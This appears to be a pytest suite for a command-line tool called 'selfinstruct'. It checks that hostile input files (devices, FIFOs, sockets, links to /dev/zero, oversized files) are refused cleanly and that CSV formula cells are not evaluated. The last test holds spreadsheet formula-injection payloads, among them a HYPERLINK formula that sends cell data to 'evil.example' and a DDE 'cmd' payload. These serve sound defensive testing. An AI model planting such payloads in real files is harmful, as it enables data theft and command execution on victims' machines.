"""Hostile input files: devices, FIFOs, sockets, links to /dev/zero, folders and files over the size
limit, given to every command that reads a user's file. Each is refused in seconds with one line
naming the path and what it is (exit 2, no traceback), before anything is stored: an existing
workspace keeps its counts and passes ``check``, and a new one is not made."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Callable, Iterator

import pytest
from conftest import ROOT, cli_main, fake_run

from selfinstruct.cli import main
from selfinstruct.formats import read_file
from selfinstruct.inputs import LIMIT_ENV, InputFileError, read_input_bytes
from selfinstruct.store import Store

FAST = 5.0  # seconds a refusal may take; a FIFO that is opened would block forever

# kind -> words the refusal must hold
KINDS = {
    "dev-zero": "is a character device",
    "fifo": "is a FIFO (named pipe)",
    "socket": "is a socket",
    "link-to-dev-zero": "is a character device (the link leads to /dev/zero)",
    "folder": "is a folder",
    "sparse-3-GiB": "is larger than the 2,048 MB limit for input files (set SELFINSTRUCT_MAX_FILE_MB",
    "over-env-limit": "is larger than the 1 MB limit for input files",
}


@pytest.fixture(scope="module")
def hostile() -> Iterator[dict[str, Path]]:
    """One path of each kind, in a short folder (a Unix socket's path must fit in 108 bytes)."""
    d = Path(tempfile.mkdtemp(prefix="si-hostile-", dir="/tmp"))
    paths = {kind: d / f"{kind}.jsonl" for kind in KINDS}
    paths["dev-zero"] = Path("/dev/zero")
    os.mkfifo(paths["fifo"])
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(paths["socket"]))
    paths["link-to-dev-zero"].symlink_to("/dev/zero")
    paths["folder"].mkdir()
    with open(paths["sparse-3-GiB"], "wb") as f:
        f.truncate(3 << 30)  # sparse: costs no disk
    paths["over-env-limit"].write_bytes(b'{"instruction": "x", "output": "y"}\n' * 60_000)  # about 2 MB
    yield paths
    sock.close()
    shutil.rmtree(d)


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace holding a generation run and an evaluation set (for prediction files)."""
    path = tmp_path_factory.mktemp("ws") / "ws.sqlite"
    fake_run(path, 1)
    evalset = path.with_name("evalset.jsonl")
    evalset.write_text('{"instruction": "Name a river.", "input": "", "output": "The Nile."}\n')
    assert main(["evaluate", "import-set", "-w", str(path), str(evalset), "--name", "evalset"]) == 0
    return path


def snapshot(path: Path) -> list[tuple]:
    with Store(path, read_only=True) as store:
        return [(r.name, r.kind, store.counts(r.id), len(store.instances(run_id=r.id))) for r in store.runs()]


# command name -> argv for (hostile path, existing workspace, path of a workspace not yet made)
COMMANDS: dict[str, Callable[[Path, Path, Path], list[str]]] = {
    "import": lambda p, ws, new: ["import", "-w", str(ws), "--file", str(p)],
    "import --format hf": lambda p, ws, new: ["import", "-w", str(ws), "--file", str(p), "--format", "hf"],
    "import --format csv": lambda p, ws, new: ["import", "-w", str(ws), "--file", str(p), "--format", "csv"],
    "import (new workspace)": lambda p, ws, new: ["import", "-w", str(new), "--file", str(p), "--format", "alpaca"],
    "stats --file": lambda p, ws, new: ["stats", "--file", str(p)],
    "stats --seeds": lambda p, ws, new: ["stats", "--seeds", str(p)],
    "generate --seeds": lambda p, ws, new: ["generate", "-w", str(ws), "--run", "new", "--seeds", str(p),
                                            "--lm", "fake"],
    "generate --seeds (new workspace)": lambda p, ws, new: ["generate", "-w", str(new), "--seeds", str(p),
                                                            "--lm", "fake"],
    "generate --config": lambda p, ws, new: ["generate", "-w", str(ws), "--run", "new", "--config", str(p),
                                             "--lm", "fake"],
    "evaluate import-set": lambda p, ws, new: ["evaluate", "import-set", "-w", str(ws), str(p)],
    "evaluate import-set (new workspace)": lambda p, ws, new: ["evaluate", "import-set", "-w", str(new), str(p)],
    "evaluate import-predictions": lambda p, ws, new: ["evaluate", "import-predictions", "-w", str(ws),
                                                       "--run", "evalset", "--predictions", str(p)],
    "evaluate rouge": lambda p, ws, new: ["evaluate", "rouge", "--predictions", str(p)],
}


def expected(kind: str, command: str) -> str:
    if kind == "folder" and command in ("import", "import --format hf", "stats --file"):
        return "the folder holds no .parquet file"  # a folder is a data set there, and this one is empty
    return KINDS[kind]


@pytest.mark.timeout(60)
@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("kind", KINDS)
def test_a_hostile_file_is_refused_fast_and_loses_nothing(kind, command, hostile, ws, tmp_path, capsys, monkeypatch):
    if kind == "over-env-limit":
        monkeypatch.setenv(LIMIT_ENV, "1")
    path, new = hostile[kind], tmp_path / "new.sqlite"
    before = snapshot(ws)
    start = time.monotonic()
    code, out, err = cli_main(capsys, *COMMANDS[command](path, ws, new))
    assert time.monotonic() - start < FAST
    assert code == 2
    assert err.startswith(f"error: {path}: ") and err.count("\n") == 1, err
    assert expected(kind, command) in err
    assert not new.exists()  # no workspace made for a file that cannot be read
    assert snapshot(ws) == before
    assert main(["check", "-w", str(ws)]) == 0


@pytest.mark.timeout(120)
@pytest.mark.parametrize("kind", KINDS)
def test_the_command_line_refuses_in_seconds_without_a_traceback(kind, hostile, tmp_path):
    env = {**os.environ, LIMIT_ENV: "1"} if kind == "over-env-limit" else dict(os.environ)
    new = tmp_path / "new.sqlite"
    start = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "selfinstruct", "import", "-w", str(new), "--file",
                           str(hostile[kind]), "--format", "alpaca-jsonl"],
                          cwd=ROOT, capture_output=True, text=True, timeout=60, env=env)
    assert time.monotonic() - start < 30  # the interpreter's start included
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr == f"error: {hostile[kind]}: {done.stderr.split(': ', 2)[2]}"
    assert KINDS[kind] in done.stderr and not new.exists()


@pytest.mark.timeout(30)
@pytest.mark.parametrize("kind", KINDS)
def test_other_readers_refuse_too(kind, hostile, monkeypatch):
    """The judge prompt file and the fine-tuning file come through the same check."""
    from selfinstruct.cli.evaluate import _read_prompt
    from selfinstruct.finetune import FinetuneError, check_chat_file

    if kind == "over-env-limit":
        monkeypatch.setenv(LIMIT_ENV, "1")
    start = time.monotonic()
    with pytest.raises(ValueError, match=KINDS[kind].replace("(", r"\(").replace(")", r"\)")):
        _read_prompt(hostile[kind])
    with pytest.raises(FinetuneError, match=KINDS[kind].replace("(", r"\(").replace(")", r"\)")):
        check_chat_file(hostile[kind])
    assert time.monotonic() - start < FAST


@pytest.mark.timeout(30)
def test_a_file_that_yields_more_than_its_size_is_stopped_at_the_limit():
    """/proc files say 0 bytes and then give more, as a file growing while read does."""
    proc = Path("/proc/self/status")
    if not proc.exists():
        pytest.skip("no /proc")
    assert os.stat(proc).st_size == 0
    with pytest.raises(InputFileError, match="larger than the 64-byte limit"):
        read_input_bytes(proc, limit=64)
    assert read_input_bytes(proc).startswith(b"Name:")


def test_a_bad_limit_setting_is_refused_by_name(tmp_path, monkeypatch, capsys):
    f = tmp_path / "a.jsonl"
    f.write_text('{"instruction": "x", "output": "y"}\n')
    for bad in ("0", "-5", "lots"):
        monkeypatch.setenv(LIMIT_ENV, bad)
        code, _, err = cli_main(capsys, "stats", "--file", str(f))
        assert code == 2 and f"{LIMIT_ENV} must be a whole number of megabytes" in err


def test_a_raised_limit_reads_the_file(hostile, monkeypatch):
    monkeypatch.setenv(LIMIT_ENV, "3")
    assert read_file(hostile["over-env-limit"], "alpaca-jsonl").records == 1  # 60,000 copies of one record
    monkeypatch.setenv(LIMIT_ENV, "1")
    with pytest.raises(ValueError, match="1 MB limit"):
        read_file(hostile["over-env-limit"], "alpaca-jsonl")


def test_formula_cells_import_as_plain_text(tmp_path):
    """Reading a CSV never evaluates it: spreadsheet formulas come in as the text they are
    (neutralising them is the export's job)."""
    f = tmp_path / "formulas.csv"
    cells = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]
    f.write_text("instruction,input,output\n" + "".join(
        f'"{c.replace(chr(34), chr(34) * 2)}",in {i},"{c.replace(chr(34), chr(34) * 2)}"\n' for i, c in enumerate(cells)))
    parsed = read_file(f)
    assert not parsed.bad
    assert [(t.instruction, t.instances[0].output) for t in parsed.tasks] == [(c, c) for c in cells]
